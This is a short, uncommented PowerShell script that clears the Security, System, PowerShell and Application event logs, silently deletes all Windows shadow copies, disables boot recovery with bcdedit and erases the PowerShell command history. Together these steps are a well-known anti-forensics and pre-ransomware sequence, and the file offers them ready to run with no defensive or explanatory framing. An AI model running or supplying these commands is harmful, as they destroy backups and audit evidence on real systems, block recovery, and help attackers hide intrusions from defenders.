$logs = 'Security', 'System', 'Windows PowerShell', 'Microsoft-Windows-PowerShell/Operational'
foreach ($l in $logs) {
    wevtutil.exe cl $l
}
Clear-EventLog -LogName Application

vssadmin.exe delete shadows /all /quiet
bcdedit.exe /set '{default}' recoveryenabled no

Remove-Item -Path (Get-PSReadLineOption).HistorySavePath -ErrorAction SilentlyContinue
